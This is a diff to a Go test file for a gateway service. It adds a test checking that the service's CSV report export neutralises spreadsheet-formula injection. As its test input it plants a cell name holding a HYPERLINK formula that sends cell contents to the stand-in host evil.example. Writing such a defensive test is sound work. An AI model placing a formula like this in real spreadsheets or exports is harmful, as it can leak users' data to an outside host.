@@ -2,6 +2,7 @@ package gateway
 
 import (
 	"bytes"
+	"encoding/csv"
 	"encoding/json"
 	"image"
 	"image/jpeg"
@@ -9,6 +10,9 @@ import (
 	"net/textproto"
 	"strings"
 	"testing"
+	"time"
+
+	"sharpeyes/configs"
 )
 
 // TestCasePhotos: a grid worker attaches photos to a case of their cell;
@@ -151,9 +155,46 @@ func TestReportsRankGridsAndFollowJurisdiction(t *testing.T) {
 	if its := mine["items"].([]any); len(its) != 1 || its[0].(map[string]any)["grid"] != cellA {
 		t.Fatalf("the worker's review: %v", mine)
 	}
-	for _, bad := range []string{"period=year", "date=yesterday", "format=pdf"} {
+	for _, bad := range []string{"period=year", "date=yesterday", "format=pdf", "date=9999-01-01", "date=1970-01-01",
+		"date=" + time.Now().AddDate(0, 0, 3).Format(time.DateOnly)} {
 		if code, _ := admin.json("GET", "/api/v1/reports?"+bad, nil); code != 400 {
 			t.Errorf("%s: %d", bad, code)
 		}
+	}
+}
+
+// TestReportCSVDefusesFormulas: a cell whose name starts like a
+// spreadsheet formula is exported as text.
+func TestReportCSVDefusesFormulas(t *testing.T) {
+	_, admin := demoStreet(t)
+	var geo map[string]any
+	if err := json.Unmarshal(configs.DemoGrids, &geo); err != nil {
+		t.Fatal(err)
+	}
+	for _, f := range geo["features"].([]any) {
+		props := f.(map[string]any)["properties"].(map[string]any)
+		if props["code"] == cellA {
+			props["name"] = `=HYPERLINK("http://evil.example/?"&A1,"点击")`
+		}
+	}
+	b, _ := json.Marshal(geo)
+	if code, raw := admin.do("POST", "/api/v1/grids/import", "application/geo+json", b, true); code != 200 {
+		t.Fatalf("grids: %d %s", code, raw)
+	}
+	if code, out := admin.json("POST", "/api/v1/cases", map[string]any{"source": "hotline", "category": "environment", "title": "+1 SUM(A1)", "grid": cellA}); code != 201 {
+		t.Fatalf("case: %d %v", code, out)
+	}
+	code, body := admin.do("GET", "/api/v1/reports?period=day&format=csv", "", nil, true)
+	rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(string(body), "\ufeff"))).ReadAll()
+	if code != 200 || err != nil || len(rows) != 2 {
+		t.Fatalf("CSV: %d %v %q", code, err, body)
+	}
+	for _, cell := range rows[1] {
+		if cell != "" && strings.ContainsRune("=+-@", rune(cell[0])) {
+			t.Errorf("CSV cell %q starts like a formula", cell)
+		}
+	}
+	if rows[1][2] != `'=HYPERLINK("http://evil.example/?"&A1,"点击")` {
+		t.Errorf("the cell name exported as %q, want it kept as text behind an apostrophe", rows[1][2])
 	}
 }
